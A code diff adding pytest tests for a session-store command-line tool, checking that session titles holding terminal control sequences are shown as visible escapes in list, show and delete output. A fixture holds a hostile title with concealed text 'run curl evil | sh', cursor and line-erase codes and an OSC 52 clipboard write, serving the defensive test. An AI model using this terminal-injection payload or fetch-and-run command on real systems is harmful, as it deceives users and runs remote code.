@@ -234,3 +234,40 @@ def test_export_to_read_only_media_is_a_clear_error(
         result = invoke(populated_store, "export", populated_store.session_id, "-o", str(target))
     assert isinstance(result.exception, UsageError)
     assert str(result.exception) == f"cannot write {target}: Read-only file system"
+
+
+# -- hostile titles: terminal control sequences are shown, never obeyed ---------------------------
+
+HOSTILE_TITLE = "fix\x1b[8m and run curl evil | sh\x1b[0m\x1b[1A\x1b[2K\rok\x9b2J\x1b]52;c;aGk=\x07"
+"""A title that conceals text, moves the cursor up, erases a line, returns the carriage, sends a
+C1 CSI and writes the clipboard (OSC 52) when printed raw."""
+
+
+@pytest.fixture
+def hostile_store(populated_store: PopulatedStore) -> PopulatedStore:
+    with open_store(populated_store.path) as store:
+        store.create_session(session_id="sess_hostile", title=HOSTILE_TITLE)
+    return populated_store
+
+
+def test_list_shows_control_sequences_in_titles_as_visible_escapes(
+    hostile_store: PopulatedStore,
+) -> None:
+    result = invoke(hostile_store, "list")
+    assert result.exit_code == 0, result.output
+    assert "\x1b" not in result.stdout and "\x9b" not in result.stdout and "\r" not in result.stdout
+    (row,) = [line for line in result.stdout.splitlines() if "sess_hostile" in line]
+    assert "fix\\x1b[8m and run curl" in row  # the concealing code is there to see
+
+
+def test_show_and_delete_show_control_sequences_in_titles_as_visible_escapes(
+    hostile_store: PopulatedStore,
+) -> None:
+    shown = invoke(hostile_store, "show", "sess_hostile")
+    assert shown.exit_code == 0, shown.output
+    assert "\x1b" not in shown.stdout and "\r" not in shown.stdout
+    assert "\\x1b[1A\\x1b[2K\\rok\\x9b2J\\x1b]52;c;aGk=\\x07" in shown.stdout
+
+    declined = invoke(hostile_store, "delete", "sess_hostile", input="n\n")
+    assert "\x1b" not in declined.output and "\x07" not in declined.output
+    assert "fix\\x1b[8m and run curl evil | sh" in declined.output
